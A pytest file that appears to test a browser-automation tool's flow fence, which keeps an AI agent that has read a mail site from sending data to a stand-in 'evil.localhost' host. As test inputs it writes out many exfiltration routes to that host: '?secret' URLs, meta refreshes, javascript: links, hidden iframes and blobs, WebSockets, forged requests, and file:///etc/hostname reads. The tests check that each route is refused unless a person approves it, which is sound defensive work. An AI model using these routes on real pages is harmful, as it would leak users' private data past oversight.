"""Flows in the real Firefox: what an agent read at one site does not leave for another, whatever the agent does."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from contextlib import contextmanager, suppress
from functools import partial
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from clz_core.client import Client
from clz_core.client.keys import new_key
from clz_core.client.processes import Owner, began
from clz_core.config.paths import SessionPaths, config_dir, private_dir
from clz_core.contract.commands import COMMANDS
from clz_core.contract.errors import ClzError
from clz_core.text.policy import can_navigate
from tests.site.server import Site
from tests.support.agents import refused as error_of
from tests.support.agents import says_goodbye
from tests.support.browsers import Browser
from tests.support.panel import served
from tests.support.person import Person
from tests.support.waiting import until

FLOW = """
[[policy.flows]]
from = ["mail.localhost"]
to = ["mail.localhost", "calendar.localhost"]
resources = ["static.localhost"]
"""
MAIL, CALENDAR, STATIC, EVIL = "mail", "calendar", "static", "evil"
At = Callable[..., str]


@pytest.fixture
def fence(watched: tuple[Browser, Person]) -> Iterator[Callable[[str], None]]:
    """Writes the rule of these tests, or another one."""
    file = config_dir() / "config.toml"
    private_dir(file.parent)
    file.write_text(FLOW)
    yield lambda text: (file.write_text(text), None)[1]
    file.unlink(missing_ok=True)
    with Client("default") as client:
        client.call("ping")


@pytest.fixture
def at(site: Site) -> At:
    """The address of a page, under one of the names of the site."""
    return lambda name, path="index.html": site.url(path).replace("127.0.0.1", f"{name}.localhost")


@contextmanager
def session(name: str) -> Iterator[Callable[[], Client]]:
    """Makes agents of one session, which ends with its process."""
    with subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE) as process:
        owner = Owner(process.pid, began(process.pid))
        yield lambda: Client("default", key=new_key(name)._replace(owner=owner))
        process.kill()


@pytest.fixture
def agent(fence: object) -> Iterator[Client]:
    with session("agent") as member, member() as client:
        yield client
        leaves(client)


def leaves(client: Client) -> None:
    """Leave without a rule: those of an agent that has left hold for a minute, and others may look for that."""
    (config_dir() / "config.toml").unlink(missing_ok=True)
    client.call("ping")
    says_goodbye(client)


def opened(client: Client, url: str, **params: object) -> int:
    return int(client.call("createWindow", {"url": url, **params})["tabId"])


def refused(client: Client, command: str, **params: object) -> ClzError:
    problem = error_of(client, command, **params)
    assert (problem.code, problem.exit_code) == ("FLOW_REFUSED", 5), problem.message
    assert problem.details["read"]["site"].endswith("mail.localhost")
    return problem


def is_fenced(client: Client, at: At) -> bool:
    return not client.call("canNavigate", {"url": at(EVIL)})["allowed"]


def has_refused(client: Client, number: int) -> bool:
    return len(client.call("listConfig")["blocked"]) >= number


def ways_of(client: Client, at: At, site: Site, name: str, failing: set[str]) -> set[str]:
    """By which ways a page of the calendar reaches another site."""
    opened(client, f"{at(CALENDAR, 'reach.html')}?to={at(name, '')[:-1]}")
    since = len(site.seen)
    client.call("click", {"target": "#go"})
    for way in failing:
        client.call("waitFor", {"text": f"{way} failed"})
    all_ways = {"fetch", "image", "script", "redirected", "socket", "frame"}
    until(lambda: all_ways - failing - {"frame"} <= {path.rpartition("?")[2] for path in site.seen[since:]})
    return {path.rpartition("?")[2] for path in site.seen[since:]} & all_ways


def written(html: str) -> str:
    return f"written?html={quote(html)}"


def test_what_was_read_leaves_only_for_the_sites_of_its_rule(agent: Client, at: At, site: Site) -> None:
    evil = opened(agent, at(EVIL, "form.html"))
    agent.call("type", {"target": "#empty", "text": "before"})
    assert not is_fenced(agent, at)
    mail = opened(agent, at(MAIL))
    assert is_fenced(agent, at)
    since = len(site.seen)
    for command, params in (
        ("type", {"target": "#empty", "text": "secret"}),
        ("click", {"target": "#agree"}),
        ("pressKey", {"key": "a"}),
        ("mouse", {"action": "click", "point": "5,5"}),
        ("getContent", {}),
        ("screenshot", {}),
        ("evaluate", {"expression": "document.title"}),
        ("reload", {}),
    ):
        refused(agent, command, tabId=evil, **params)
    problem = refused(agent, "getContent", tabId=evil)
    assert problem.message.startswith("evil.localhost:")
    assert "you have read mail.localhost (" in problem.message
    assert problem.details["allowedDomains"] == ["mail.localhost", "calendar.localhost"]
    refused(agent, "createWindow", url=f"{at(EVIL)}?secret")
    refused(agent, "navigate", url=f"{at(EVIL)}?secret", tabId=mail)
    refused(agent, "navigate", url=at(MAIL, f"redirect?to={at(EVIL)}?secret"), tabId=mail)
    refresh = f'<meta http-equiv=refresh content="0;url={at(EVIL)}?secret">'
    agent.call("navigate", {"url": at(MAIL, written(refresh)), "tabId": mail})
    until(partial(has_refused, agent, 2))
    for made in ("data:text/html,<script src=https://evil.test/x></script>", "file:///etc/hostname", "about:support"):
        refused(agent, "navigate", url=made, tabId=mail)
    agent.call("navigate", {"url": at(CALENDAR, "form.html"), "tabId": evil})
    agent.call("type", {"target": "#empty", "text": "secret", "tabId": evil})
    agent.call("closeTab", {"tabId": mail})
    assert is_fenced(agent, at), "it has read it all the same"
    assert not [path for path in site.seen[since:] if path.endswith("?secret") and path.startswith("/index")]


def test_a_page_of_the_rule_loads_what_it_needs_and_nothing_that_somebody_wrote_into_it(
    agent: Client, at: At, site: Site
) -> None:
    opened(agent, at(MAIL))
    ways = partial(ways_of, agent, at, site)
    assert ways(EVIL, failing={"fetch", "image", "redirected", "socket"}) == {"script"}
    assert ways(STATIC, failing=set()) == {"script", "fetch", "image", "redirected", "socket"}
    page = f"""<a id=away href="{at(EVIL)}?a">away</a> <a id=blank target=_blank href="{at(EVIL)}?b">blank</a>
        <a id=noopener target=_blank rel=noopener href="{at(EVIL)}?c">noopener</a>
        <a id=script href="javascript:void open('{at(EVIL)}?d')">script</a>
        <a id=saved download href="{at(EVIL)}?e">saved</a>
        <form id=form action="{at(CALENDAR)}"><button id=send formaction="{at(EVIL)}">send</button></form>
        <button id=frame onclick="document.body.append(Object.assign(document.createElement('iframe'),
          {{src: 'data:text/html,<img src={at(EVIL)}?f>'}}))">frame</button>
        <button id=blob onclick="open(URL.createObjectURL(new Blob(['<img src={at(EVIL)}?g>'],
          {{type: 'text/html'}})))">blob</button>"""
    tab = opened(agent, at(CALENDAR, written(page)))
    since = len(site.seen)
    for number, target in enumerate(("#away", "#blank", "#noopener", "#script", "#send", "#frame", "#blob"), 1):
        agent.call("click", {"target": target, "tabId": tab})
        until(partial(has_refused, agent, number))
    agent.call("click", {"target": "#saved", "tabId": tab})
    agent.call("navigate", {"url": at(CALENDAR), "tabId": tab})
    assert not [path for path in site.seen[since:] if path.startswith("/index.html?")]


@pytest.mark.parametrize("way", ["image", "frame", "redirect", "fetch", "popup", "worker"])
def test_a_request_of_any_kind_is_reading(agent: Client, at: At, way: str) -> None:
    mail = at(MAIL)
    pages = {
        "image": f"<img src={at(MAIL, 'image.png')}>",
        "frame": f"<iframe src={mail}></iframe>",
        "fetch": f"<script>fetch('{mail}', {{mode: 'no-cors'}})</script>",
        "worker": f"""<script>
            new Worker(URL.createObjectURL(new Blob([`fetch('{mail}', {{mode: 'no-cors'}})`])))</script>""",
        "popup": f"<a id=open target=_blank href={mail}>open</a>",
    }
    opened(agent, at(CALENDAR))
    tab = opened(agent, at(EVIL))
    path = f"redirect?to={mail}" if way == "redirect" else written(pages[way])
    with suppress(ClzError):  # which the reading ends, if it is still under way
        agent.call("navigate", {"url": at(EVIL, path), "tabId": tab})
        if way == "popup":
            agent.call("click", {"target": "#open", "tabId": tab})
    until(partial(is_fenced, agent, at))
    if way != "redirect":
        refused(agent, "getContent", tabId=tab)


def test_what_is_shown_without_a_request_is_read_as_well(
    agent: Client, at: At, person: Person, fence: Callable[[str], None]
) -> None:
    fence("# none\n")
    back = opened(agent, at(MAIL, "kept"))
    agent.call("navigate", {"url": at(EVIL, "kept"), "tabId": back})
    fence(FLOW)
    assert not is_fenced(agent, at)
    agent.call("back", {"tabId": back})
    assert is_fenced(agent, at)
    agent.call("forward", {"tabId": back})
    refused(agent, "getContent", tabId=back)
    with session("other") as member, member() as other:
        tab = person.opens(at(MAIL, "kept"))
        until(lambda: person.in_own_page("return (await browser.tabs.get(args[0])).status === 'complete'", tab))
        opened(other, at(EVIL))
        message = {"clz": "share", "tabId": tab, "agent": other.key.agent_id}
        assert person.in_own_page("return browser.runtime.sendMessage(args[0])", message)["ok"]
        other.call("getTabs")
        assert is_fenced(other, at), "a tab of the person's was lent to it"
        person.closes(tab)
        leaves(other)


def test_cookies_and_states_are_read_without_a_page(agent: Client, at: At, fence: Callable[[str], None]) -> None:
    """Tabs share their jar: what was set in the one is there in the other."""
    opened(agent, at(MAIL))
    agent.call("setCookie", {"name": "session", "value": "1"})
    for command, params in (("getCookies", {"all": True}), ("saveState", {"url": ["**"]})):
        fence(FLOW)
        with session("reader") as member, member() as reader:
            opened(reader, at(CALENDAR))
            assert not is_fenced(reader, at)
            reader.call(command, params)
            assert (command, is_fenced(reader, at)) == (command, True)
            leaves(reader)
    agent.call("clearCookies")


def test_what_reaches_past_every_address_is_off(agent: Client, at: At, site: Site) -> None:
    tab = opened(agent, at(CALENDAR))
    agent.call("setExtraHeaders", {"headers": ["X-Told: early"]})
    agent.call("navigate", {"url": at(CALENDAR, "headers"), "tabId": tab})
    assert "early" in agent.call("getContent", {"tabId": tab})["text"]
    opened(agent, at(MAIL))
    agent.call("navigate", {"url": at(CALENDAR, "headers"), "tabId": tab})
    assert "early" not in agent.call("getContent", {"tabId": tab})["text"]
    for command, params in (
        ("evaluate", {"expression": "1", "unsafe": True}),
        ("setExtraHeaders", {"headers": ["X-Told: secret"]}),
        ("addRoute", {"url": "**", "block": True}),
        ("addInitScript", {"code": "1"}),
        ("readClipboard", {"system": True}),
        ("emulate", {"userAgent": "secret"}),
        ("emulate", {"locale": "en-x-secret"}),
        ("sendRequest", {"method": "POST", "url": f"{at(EVIL)}?secret", "body": "secret"}),
        ("setCookie", {"name": "a", "value": "secret", "url": at(EVIL)}),
        ("setAuth", {"origin": at(EVIL, "")[:-1], "user": "secret", "password": "secret"}),
        ("loadState", {"state": {"cookies": [], "origins": [{"origin": at(EVIL, "")[:-1], "localStorage": []}]}}),
    ):
        in_tab = {"tabId": tab} if COMMANDS[command].tab else {}
        refused(agent, command, **in_tab, **params)
    assert not [path for path in site.seen if path.endswith("?secret")]


@pytest.mark.parametrize("whose", [EVIL, CALENDAR])
def test_a_page_from_before_that_listens_tells_nothing_by_scripts(
    whose: str, agent: Client, at: At, site: Site
) -> None:
    tells = f"document.head.append(Object.assign(document.createElement('script'), {{src: '{at(EVIL, 'heard.js')}'}}))"
    tab = opened(
        agent, at(EVIL, written(f"<script>setInterval(() => {tells}, 50)</script>")) if whose == EVIL else at(CALENDAR)
    )
    if whose == CALENDAR:
        agent.call("evaluate", {"expression": f"setInterval(() => {tells}, 50)", "unsafe": True, "tabId": tab})
    until(lambda: "/heard.js" in site.seen)
    opened(agent, at(MAIL))
    until(lambda: has_refused(agent, 1))
    heard = site.seen.count("/heard.js")
    until(lambda: has_refused(agent, 5))
    assert site.seen.count("/heard.js") == heard


def test_a_frame_that_was_there_before_is_none_to_act_in(agent: Client, at: At) -> None:
    tab = opened(agent, at(CALENDAR, written(f"<input id=own><iframe src={at(EVIL, 'form.html')}></iframe>")))
    agent.call("type", {"target": "#empty", "text": "before", "tabId": tab})
    opened(agent, at(MAIL))
    for command, params in (
        ("type", {"target": "#empty", "text": "secret"}),
        ("pressKey", {"key": "s"}),
        ("mouse", {"action": "click", "point": "20,60"}),
        ("type", {"target": "#own", "text": "secret"}),
    ):
        assert "clz reload" in (refused(agent, command, tabId=tab, **params).hint or "")
    agent.call("reload", {"tabId": tab})
    agent.call("type", {"target": "#own", "text": "secret", "tabId": tab})


def test_a_page_that_is_connected_elsewhere_is_loaded_again_first(agent: Client, at: At, site: Site) -> None:
    connects = f"<input id=own><script>new WebSocket('{at(EVIL, 'hang').replace('http', 'ws')}')</script>"
    tab = opened(agent, at(CALENDAR, written(connects)))
    until(lambda: "/hang" in site.seen)
    opened(agent, at(MAIL))
    assert "clz reload" in (refused(agent, "type", target="#own", text="secret", tabId=tab).hint or "")
    agent.call("reload", {"tabId": tab})
    agent.call("type", {"target": "#own", "text": "secret", "tabId": tab})


def test_what_is_under_way_elsewhere_ends_when_the_flow_begins(agent: Client, at: At) -> None:
    evil = opened(agent, at(EVIL))
    found: list[ClzError] = []

    def waits() -> None:
        with Client("default", key=agent.key) as same:
            found.append(error_of(same, "waitFor", text="never", tabId=evil, waitMs=20_000))

    waiting = threading.Thread(target=waits)
    waiting.start()
    opened(agent, at(MAIL))
    waiting.join()
    assert found[0].code == "FLOW_REFUSED"


def test_a_session_is_one_reader_and_who_can_use_every_key_is_all_of_them(at: At, fence: object) -> None:
    with session("one") as member, session("two") as stranger, member() as one, member() as helper, stranger() as two:
        with Client("default", key=new_key("anybody")) as anybody:
            for client in (helper, two, anybody):
                opened(client, at(EVIL))
            opened(one, at(MAIL))
            assert [is_fenced(client, at) for client in (one, helper, two, anybody)] == [True, True, False, True]
            for client in (helper, two, anybody):
                leaves(client)
        leaves(one)


def test_a_host_that_begins_again_has_forgotten_nothing(agent: Client, at: At, person: Person) -> None:
    opened(agent, at(MAIL))
    file = SessionPaths("default").folder / "flows.json"
    assert stat.S_IMODE(os.stat(file).st_mode) == 0o600
    assert "mail.localhost" in json.dumps(json.loads(file.read_text()))
    pid = agent.call("status")["hostPid"]
    os.kill(pid, 9)
    until(lambda: _status(agent).get("hostPid", pid) != pid)
    assert is_fenced(agent, at)
    refused(agent, "createWindow", url=at(EVIL))


def _status(client: Client) -> dict[str, Any]:
    try:
        return dict(client.call("status"))
    except ClzError:
        return {}


def test_the_person_alone_ends_it(agent: Client, at: At, person: Person) -> None:
    opened(agent, at(MAIL))
    agent.call("closeTab")
    assert is_fenced(agent, at)
    (own,) = [one for one in agent.call("getAgents")["agents"] if one["mine"]]
    assert own["read"] == "mail.localhost"
    message = {"clz": "clearFlows", "agent": agent.key.agent_id}
    assert person.in_own_page("return browser.runtime.sendMessage(args[0])", message)["ok"]
    opened(agent, at(EVIL))


def test_a_rule_may_have_the_person_asked_for_another_site(
    agent: Client, at: At, fence: Callable[[str], None], watched: tuple[Browser, Person]
) -> None:
    fence(f'{FLOW}otherwise = "ask"')
    opened(agent, at(MAIL))
    there: Any = agent.call("canNavigate", {"url": at(EVIL)})
    assert (there["allowed"], there["read"], there["asks"]) == (False, "mail.localhost", True)
    assert can_navigate(there).endswith(", since you have read mail.localhost; clz open asks the person")
    with pytest.raises(ClzError, match="There was no answer") as caught:
        agent.call("createWindow", {"url": at(EVIL)}, 5_000)
    assert (caught.value.code, "clz show" in caught.value.hint) == ("FLOW_REFUSED", True)
    url = at(EVIL, "form.html?all")
    with served(watched[0]) as address, ThreadPoolExecutor(1) as threads:

        def answered(answer: str) -> Future[Any]:
            with httpx.stream("GET", f"{address}events") as told:
                opening = threads.submit(agent.call, "createWindow", {"url": url})
                said = next(line for line in told.iter_lines() if "May it go on at evil.localhost:" in line)
            (question,) = json.loads(said.removeprefix("data:"))["questions"]
            assert (question["allows"], url in question["text"]) == (True, True)
            given = {"action": "answer", "whose": question["agent"], "question": question["id"], "text": answer}
            assert httpx.post(f"{address}do", json=given).json()["done"]
            return opening

        assert "The person did not allow it." in str(answered("no").exception(20))
        assert answered("done").result(20)["url"] == url
    agent.call("navigate", {"url": at(EVIL)})
    assert not agent.call("canNavigate", {"url": at("other")})["allowed"]


def test_the_person_ends_it_in_clz_show(agent: Client, at: At, watched: tuple[Browser, Person]) -> None:
    opened(agent, at(MAIL))
    with served(watched[0]) as address:
        with httpx.stream("GET", f"{address}events") as told:
            said = next(line for line in told.iter_lines() if line.startswith("data:") and "mail.localhost" in line)
        agents = json.loads(said.removeprefix("data:"))["agents"]
        (whose,) = [one["id"] for one in agents if one["read"] and agent.key.agent_id.startswith(one["id"])]
        assert httpx.post(f"{address}do", json={"action": "forget", "whose": whose}).json()["done"]
    opened(agent, at(EVIL))
